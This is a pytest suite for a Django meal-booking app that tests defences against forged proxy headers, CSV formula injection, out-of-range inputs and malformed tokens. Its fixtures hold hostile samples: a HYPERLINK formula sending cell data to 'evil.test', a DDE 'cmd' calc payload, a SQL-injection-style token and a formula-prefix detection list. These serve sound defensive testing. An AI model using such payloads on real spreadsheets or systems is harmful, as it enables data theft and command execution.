"""What the client controls, refused at the cause (issue 13, OWASP ASVS level 1).

- The booking rate limit keys on an address the client cannot choose
  (``NUM_PROXIES``), and counts only bookings that validate.
- Every CSV cell a spreadsheet would read as a formula is neutralised.
- Dates, numbers, query parameters and URL tokens out of range are refused
  with a message (or a 400/404), never a 500, and bounded in the database too.
- Pages with personal data or money tell browsers not to keep them.
"""

from datetime import timedelta

import pytest
from django.test import Client, RequestFactory
from django.urls import reverse

from meals.models import Booking
from meals.ratelimit import client_ip
from tests.conftest import create_meal

GOOD_BOOKING = {"name": "Odette", "email": "odette@example.org", "party_size": "1"}


def book(client, meal, **changes):
    return client.post(reverse("meals:book", args=[meal.pk]), {**GOOD_BOOKING, **changes})


# --- Finding 3: the rate limit trusts only the configured proxies -----------------


def request_from(remote_addr: str, forwarded: str | None = None):
    extra = {"REMOTE_ADDR": remote_addr}
    if forwarded is not None:
        extra["HTTP_X_FORWARDED_FOR"] = forwarded
    return RequestFactory().post("/", **extra)


@pytest.mark.parametrize(
    ("num_proxies", "remote_addr", "forwarded", "expected"),
    [
        # No proxy trusted: whatever the header says, the peer is the client.
        (0, "198.51.100.7", "1.2.3.4", "198.51.100.7"),
        (0, "198.51.100.7", None, "198.51.100.7"),
        # One proxy: the address it appended, not what the client sent before it.
        (1, "127.0.0.1", "6.6.6.6, 203.0.113.5", "203.0.113.5"),
        (1, "127.0.0.1", "203.0.113.5", "203.0.113.5"),
        (1, "127.0.0.1", " 2001:db8::1 ", "2001:db8::1"),
        # Two proxies (a CDN, then nginx): the address the CDN saw.
        (2, "127.0.0.1", "6.6.6.6, 203.0.113.5, 192.0.2.10", "203.0.113.5"),
        # Fewer entries than proxies, or no header, or garbage: the peer.
        (2, "127.0.0.1", "203.0.113.5", "127.0.0.1"),
        (1, "127.0.0.1", None, "127.0.0.1"),
        (1, "127.0.0.1", "", "127.0.0.1"),
        (1, "127.0.0.1", "6.6.6.6, not-an-address", "127.0.0.1"),
        (1, "127.0.0.1", "6.6.6.6, " + "9" * 300, "127.0.0.1"),
    ],
)
def test_client_ip_trusts_only_the_configured_number_of_proxies(
    settings, num_proxies, remote_addr, forwarded, expected
):
    settings.NUM_PROXIES = num_proxies
    settings.SECURE_PROXY_SSL_HEADER = ("HTTP_X_FORWARDED_PROTO", "https")  # as with HTTPS=on
    assert client_ip(request_from(remote_addr, forwarded)) == expected


@pytest.mark.django_db
def test_a_random_forwarded_for_does_not_escape_the_booking_limit(meal, settings):
    settings.NUM_PROXIES = 0
    settings.SECURE_PROXY_SSL_HEADER = ("HTTP_X_FORWARDED_PROTO", "https")
    settings.BOOKING_RATE_LIMIT = "3/d"  # a day: no window boundary within the test
    statuses = [
        book(Client(HTTP_X_FORWARDED_FOR=f"10.1.{n}.{n}"), meal, email=f"g{n}@example.org").status_code
        for n in range(6)
    ]
    assert statuses == [302, 302, 302, 429, 429, 429]
    assert Booking.objects.count() == 3


@pytest.mark.django_db
def test_behind_one_proxy_the_left_part_the_client_forged_is_ignored(meal, settings):
    settings.NUM_PROXIES = 1
    settings.BOOKING_RATE_LIMIT = "2/d"
    # nginx with $proxy_add_x_forwarded_for appends the address it saw, 203.0.113.5.
    same_client = [
        book(Client(HTTP_X_FORWARDED_FOR=f"10.9.9.{n}, 203.0.113.5"), meal, email=f"g{n}@example.org").status_code
        for n in range(3)
    ]
    assert same_client == [302, 302, 429]
    # Another guest behind the same proxy (the same REMOTE_ADDR) is not limited with the first.
    other = Client(HTTP_X_FORWARDED_FOR="203.0.113.99")
    assert book(other, meal, email="other@example.org").status_code == 302


@pytest.mark.django_db
def test_invalid_booking_posts_do_not_count_against_the_limit(client, meal, settings):
    settings.BOOKING_RATE_LIMIT = "10/d"
    for _ in range(10):
        assert client.post(reverse("meals:book", args=[meal.pk]), {}).status_code == 400
    assert book(client, meal).status_code == 302
    assert Booking.objects.count() == 1


@pytest.mark.django_db
def test_valid_bookings_over_the_limit_still_get_429(client, meal, settings):
    settings.BOOKING_RATE_LIMIT = "2/d"
    statuses = [book(client, meal, email=f"g{n}@example.org").status_code for n in range(3)]
    assert statuses == [302, 302, 429]


# --- Finding 4: no spreadsheet formula in any CSV file ------------------------------

FORMULA = '=HYPERLINK("http://evil.test/?x="&A2,"Voir")'
# OWASP "CSV injection": a cell starting with one of these is read as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cells(response) -> list[str]:
    import csv
    import io

    text = response.content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in row]


@pytest.fixture
def hostile_rows(db, meal, coordinator):
    """Every kind of text a CSV file shows, each written by someone hostile."""
    from meals.models import Contribution

    meal.title = "@SUM(1+1)*cmd|' /C calc'!A0"
    meal.save(update_fields=["title"])
    coordinator.first_name, coordinator.last_name = "+1+1", ""
    coordinator.save(update_fields=["first_name", "last_name"])
    # The guest of the issue: booked through the public form, offering to help.
    response = book(Client(), meal, name=FORMULA, email="evil@example.org", help_with="cooking")
    assert response.status_code == 302
    # She came and cooked (issue 18: the volunteers' hours count attendance).
    from meals.models import ShiftSignup

    ShiftSignup.objects.filter(shift__meal=meal).update(attended=ShiftSignup.Attendance.CAME)
    Contribution.objects.create(
        meal=meal,
        amount="5.00",
        method="cash",
        recorded_by=coordinator,
        voided_at=meal.starts_at,
        voided_by=coordinator,
        void_reason="-2+3\tplus",
    )
    Contribution.objects.create(meal=meal, amount="2.00", method="card", recorded_by=coordinator)
    return meal


def test_every_csv_export_neutralises_formulas(client, coordinator, hostile_rows, clock):
    from meals.views.reports import CSV_KINDS

    now, move = clock
    move(hostile_rows.ends_at - now + timedelta(days=1))  # the reports count what has happened
    client.force_login(coordinator)
    month = {"month": f"{hostile_rows.starts_at:%Y-%m}"}
    assert set(CSV_KINDS) == {"contributions", "attendance", "volunteers"}, "a new export: give it hostile rows"
    for kind in CSV_KINDS:
        response = client.get(reverse("meals:report_csv", args=[kind]), month)
        assert response.status_code == 200, kind
        cells = csv_cells(response)
        dangerous = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
        assert not dangerous, (kind, dangerous)
        # The hostile text is there, kept readable behind the quote (the test is not vacuous).
        assert any(cell.startswith("'") for cell in cells), (kind, cells)
    volunteers = csv_cells(client.get(reverse("meals:report_csv", args=["volunteers"]), month))
    assert "'" + FORMULA in volunteers


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6 12", "'+33 6 12"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Odette", "Odette"),
        ("5,50", "5,50"),
        ("", ""),
        (12, "12"),
        (None, ""),
    ],
)
def test_spreadsheet_cell_prefixes_what_a_spreadsheet_would_evaluate(value, expected):
    from meals.spreadsheet import cell

    assert cell(value) == expected


# --- Finding 5: dates, numbers, query parameters and tokens out of range ---------

# The range every date a person types must fall in (meals.bounds).
FIRST_DAY, LAST_DAY = "2000-01-01", "2100-12-31"


def page_form(client, page_url: str, action_url: str | None = None) -> dict[str, str]:
    """The fields of the form posting to ``action_url`` on ``page_url``, as the browser would send them.

    Taken from the page, so a hidden field (a one-time key) travels too; empty
    values (unchecked boxes, blank optional fields) are left out.
    """
    from urllib.parse import urlsplit

    from tests.test_fuzz_forms import FormFinder

    action_url = action_url or page_url
    response = client.get(page_url)
    assert response.status_code == 200, page_url
    finder = FormFinder()
    finder.feed(response.content.decode())
    for form in finder.forms:
        if (urlsplit(form["action"]).path or page_url) == action_url and form["method"] == "post":
            return {name: value for name, value in form["fields"].items() if value != ""}
    raise AssertionError(f"no form posting to {action_url} on {page_url}")


def submit(client, page_url: str, changes: dict, action_url: str | None = None):
    action_url = action_url or page_url
    return client.post(action_url, {**page_form(client, page_url, action_url), **changes})


def refused(response) -> bool:
    body = response.content.decode()
    return response.status_code in {200, 400} and ("is-invalid" in body or "alert-danger" in body)


@pytest.fixture
def coordinator_client(client, coordinator):
    client.force_login(coordinator)
    client.raise_request_exception = False
    return client


@pytest.mark.django_db
@pytest.mark.parametrize("day", ["0001-01-01", "1999-12-31", "2101-01-01", "9999-12-31"])
def test_a_meal_dated_out_of_range_is_refused(coordinator_client, day):
    from meals.models import Meal

    response = submit(coordinator_client, reverse("meals:planning_new"), {"day": day})
    assert refused(response), response.status_code
    assert not Meal.objects.exists()


@pytest.mark.django_db
def test_editing_a_meal_to_year_one_is_refused(coordinator_client, meal):
    url = reverse("meals:planning_edit", args=[meal.pk])
    response = submit(coordinator_client, url, {"day": "0001-01-01"})
    assert refused(response), response.status_code
    before = meal.starts_at
    meal.refresh_from_db()
    assert meal.starts_at == before


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("starts_on", "ends_on"),
    [("9999-12-20", "9999-12-31"), ("0001-01-01", "0001-01-31"), ("2100-12-01", "2101-01-31")],
)
def test_a_series_out_of_range_is_refused(coordinator_client, starts_on, ends_on):
    from meals.models import Meal, MealSeries

    changes = {"starts_on": starts_on, "ends_on": ends_on, "weekdays": ["0", "1", "2", "3", "4", "5", "6"]}
    response = submit(coordinator_client, reverse("meals:planning_series"), changes)
    assert refused(response), response.status_code
    assert not Meal.objects.exists() and not MealSeries.objects.exists()


@pytest.mark.django_db
@pytest.mark.parametrize("release_at", ["0001-01-01T00:00", "1999-12-31T23:59", "2101-01-01T00:00", "9999-12-31T23:59"])
def test_a_seat_block_released_out_of_range_is_refused(coordinator_client, meal, partner, release_at):
    from meals.models import SeatBlock

    url = reverse("meals:planning_seat_block", args=[meal.pk])
    changes = {"partner": str(partner.pk), "seats": "3", "release_at": release_at}
    response = submit(coordinator_client, url, changes)
    assert refused(response), response.status_code
    assert not SeatBlock.objects.exists()


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("minutes_before_meal", "1500000000"),
        ("minutes_before_meal", "-1500000000"),
        ("minutes_before_meal", "1441"),
        ("duration_minutes", "1441"),
        ("duration_minutes", "32767"),
        ("slots", "101"),
        ("slots", "32767"),
    ],
)
def test_a_shift_template_out_of_range_is_refused_and_meals_can_still_be_planned(coordinator_client, field, value):
    from meals.models import Meal, ShiftTemplate

    response = submit(coordinator_client, reverse("meals:shift_template"), {f"form-0-{field}": value})
    assert refused(response), (response.status_code, field, value)
    assert not ShiftTemplate.objects.exists()
    response = submit(coordinator_client, reverse("meals:planning_new"), {"day": "2030-03-05"})
    assert response.status_code == 302
    assert Meal.objects.get().shifts.count() == 3


@pytest.mark.django_db
@pytest.mark.parametrize("joined_on", ["0001-01-01", "1999-12-31", "2101-01-01", "9999-12-31"])
def test_a_membership_dated_out_of_range_is_refused(coordinator_client, guest, joined_on):
    from members.models import Membership

    url = reverse("members:membership_new", args=[guest.pk])
    response = submit(coordinator_client, url, {"joined_on": joined_on, "amount": "5", "method": "cash"})
    assert refused(response), response.status_code
    assert not Membership.objects.exists()


@pytest.mark.django_db
def test_values_at_the_bounds_are_kept_and_every_page_that_shows_them_opens(
    coordinator_client, partner_referent, partner
):
    """Stored through the forms, then rendered by other pages: the first and last days allowed."""
    from meals.models import Meal

    for day in (FIRST_DAY, LAST_DAY):
        response = submit(coordinator_client, reverse("meals:planning_new"), {"day": day})
        assert response.status_code == 302, day
    first, last = Meal.objects.order_by("starts_at")
    soon = create_meal()
    # Seats are released before the meal starts (12:30 by default).
    for meal, release_at in ((first, f"{FIRST_DAY}T00:00"), (last, f"{LAST_DAY}T10:00"), (soon, f"{FIRST_DAY}T00:00")):
        url = reverse("meals:planning_seat_block", args=[meal.pk])
        changes = {"partner": str(partner.pk), "seats": "5", "release_at": release_at}
        assert submit(coordinator_client, url, changes).status_code == 302, release_at
    pages = [
        reverse("meals:planning"),
        reverse("meals:upcoming"),
        reverse("meals:meal", args=[soon.pk]),
        reverse("members:partner", args=[partner.pk]),
        reverse("meals:reports") + "?year=2000",
        reverse("meals:reports") + "?year=2100",
        reverse("meals:report_attendance") + "?month=2100-12",
    ]
    pages += [reverse("meals:planning_edit", args=[meal.pk]) for meal in Meal.objects.all()]
    pages += [reverse("meals:meal", args=[meal.pk]) for meal in Meal.objects.all()]
    for url in pages:
        assert coordinator_client.get(url).status_code == 200, url
    referent = Client()
    referent.force_login(partner_referent)
    assert referent.get(reverse("members:partner_bookings", args=[partner.pk])).status_code == 200


# Query parameters: « ²⁰²⁶ » passes str.isdigit() but not int(); Arabic-Indic digits pass int().
ODD_NUMBERS = ["²⁰²⁶", "٢٠٢٦", "２０２６", "99999999999999999999999", "-1", "0", "1e3", " 2026", "2026\x00", "%00"]


@pytest.mark.slow  # a fuzzer: every report and list URL times every odd number
@pytest.mark.django_db
def test_odd_numbers_in_query_parameters_are_ignored_or_refused(coordinator_client, meal, partner):
    urls = [
        reverse(name)
        for name in (
            "meals:reports",
            "meals:report_contributions",
            "meals:report_attendance",
            "meals:report_volunteers",
            "meals:report_guests",
        )
    ]
    urls += [reverse("meals:report_csv", args=[kind]) for kind in ("contributions", "attendance", "volunteers")]
    failures = []
    for url in urls:
        for name in ("year", "month", "page", "partner"):
            for value in ODD_NUMBERS + ["2026-²", "²⁰²⁶-11", "2026-11-1", "-2026-11"]:
                status = coordinator_client.get(url, {name: value}).status_code
                if status not in {200, 400}:
                    failures.append(f"{url}?{name}={value!r}: {status}")
    others = [
        (reverse("meals:door", args=[meal.pk]), ("booking", "q")),
        (reverse("members:memberships"), ("annee",)),
        (reverse("members:directory"), ("page", "q")),
        (reverse("meals:planning"), ("page", "month", "year")),
        (reverse("meals:shift_overview"), ("tous", "page")),
        (reverse("meals:report_guests"), ("partner", "show")),
    ]
    for url, names in others:
        for name in names:
            for value in ODD_NUMBERS:
                status = coordinator_client.get(url, {name: value}).status_code
                if status not in {200, 400}:
                    failures.append(f"{url}?{name}={value!r}: {status}")
    assert not failures, "\n".join(failures)


@pytest.mark.django_db
def test_the_memberships_page_keeps_to_the_years_it_knows(coordinator_client):
    from django.utils import timezone

    this_year = timezone.localdate().year
    for odd in ("99999999", "²⁰²⁶", "1999"):
        response = coordinator_client.get(reverse("members:memberships"), {"annee": odd})
        assert response.context["year"] == this_year, odd
    assert coordinator_client.get(reverse("members:memberships"), {"annee": "2000"}).context["previous"] is None
    assert coordinator_client.get(reverse("members:memberships"), {"annee": "2100"}).context["next"] is None


MALFORMED_TOKENS = ["%00", "a%00b", "x" * 31, "x" * 33, "x" * 500, "%C3%A9" * 32, "abc.def", "'%20OR%201=1--"]


@pytest.mark.django_db
@pytest.mark.parametrize("token", MALFORMED_TOKENS)
def test_a_malformed_token_is_404_on_every_private_link(client, token):
    client.raise_request_exception = False
    for path in (f"/reservation/{token}/", f"/reservation/{token}/cantine.ics", f"/creneaux/agenda/{token}.ics"):
        assert client.get(path).status_code == 404, path
    assert client.post(f"/reservation/{token}/annuler/").status_code == 404


@pytest.mark.parametrize(
    "path",
    [
        "/reservation/\x00/",
        "/reservation/" + "a" * 31 + "\x00/",
        "/reservation/" + "é" * 32 + "/",
        "/reservation/" + "a" * 33 + "/",
        "/creneaux/agenda/\x00.ics",
        "/creneaux/agenda/" + "a" * 64 + ".ics",
    ],
)
def test_token_urls_match_only_the_token_alphabet_and_length(path):
    from django.urls import Resolver404, resolve

    with pytest.raises(Resolver404):
        resolve(path)


@pytest.mark.django_db
def test_real_tokens_still_open_their_pages(client, meal, volunteer):
    from meals.services.booking import booking_create
    from members.models import new_token

    booking = booking_create(meal=meal, name="Odette", email="odette@example.org", party_size=1)
    assert len(new_token()) == len(booking.token) == 32
    assert client.get(reverse("meals:booking", args=[booking.token])).status_code == 200
    assert client.get(reverse("meals:booking_ics", args=[booking.token])).status_code == 200
    token = volunteer.member.calendar_token
    assert client.get(reverse("meals:shifts_ical", args=[token])).status_code == 200


def _year_one():
    from datetime import UTC, datetime

    return datetime(1, 1, 2, tzinfo=UTC)


def _year_9999():
    from datetime import UTC, datetime

    return datetime(9999, 12, 30, tzinfo=UTC)


# (model, what to update, the value): each refused by a check constraint, whoever writes.
OUT_OF_RANGE_ROWS = [
    ("meal", "starts_at", _year_one),
    ("meal", "cooking_starts_at", _year_one),
    ("meal", "booking_opens_at", _year_one),
    ("meal", "booking_closes_at", _year_9999),
    ("meal", "capacity", lambda: 2_000_000),
    ("meal", "cost_price", lambda: "10000.00"),
    ("shift", "starts_at", _year_one),
    ("shift", "slots", lambda: 1000),
    ("booking", "party_size", lambda: 1000),
    ("seat_block", "release_at", _year_one),
    ("seat_block", "release_at", _year_9999),
    ("seat_block", "seats", lambda: 2_000_000),
    ("template", "minutes_before_meal", lambda: 1_500_000_000),
    ("template", "duration_minutes", lambda: 1441),
    ("template", "slots", lambda: 101),
    ("series", "starts_on", lambda: __import__("datetime").date(1, 1, 1)),
    ("series", "ends_on", lambda: __import__("datetime").date(9999, 12, 31)),
    ("membership", "joined_on", lambda: __import__("datetime").date(1, 1, 1)),
    ("membership", "year", lambda: 9999),
    ("till", "counted_cash", lambda: "100000.00"),
]


@pytest.mark.django_db
@pytest.mark.parametrize(("model", "field", "value"), OUT_OF_RANGE_ROWS)
def test_the_database_refuses_out_of_range_values(meal, partner, guest, coordinator, model, field, value):
    """On SQLite and on PostgreSQL (run the suite with DATABASE_URL too)."""
    from datetime import date
    from decimal import Decimal

    from django.db import DataError, IntegrityError, transaction

    from meals.models import Booking, MealSeries, SeatBlock, ShiftTemplate, TillClosing
    from members.models import Membership

    rows = {
        "meal": lambda: meal,
        "shift": lambda: meal.shifts.first(),
        "booking": lambda: Booking.objects.create(meal=meal, name="Odette", party_size=1),
        "seat_block": lambda: SeatBlock.objects.create(meal=meal, partner=partner, seats=2, release_at=meal.starts_at),
        "template": lambda: ShiftTemplate.objects.create(
            role="cooking", minutes_before_meal=180, duration_minutes=150, slots=10
        ),
        "series": lambda: MealSeries.objects.create(
            title="Mardis", starts_on=date(2030, 1, 1), ends_on=date(2030, 6, 30)
        ),
        "membership": lambda: Membership.objects.create(
            member=guest, year=2030, joined_on=date(2030, 1, 5), amount=Decimal("5"), method="cash"
        ),
        "till": lambda: TillClosing.objects.create(
            meal=meal, counted_cash=Decimal("10"), expected_cash=Decimal("10"), closed_by=coordinator
        ),
    }
    row = rows[model]()
    # A check constraint (IntegrityError), or on PostgreSQL the column's own type (DataError).
    with pytest.raises((IntegrityError, DataError)), transaction.atomic():
        type(row).objects.filter(pk=row.pk).update(**{field: value()})
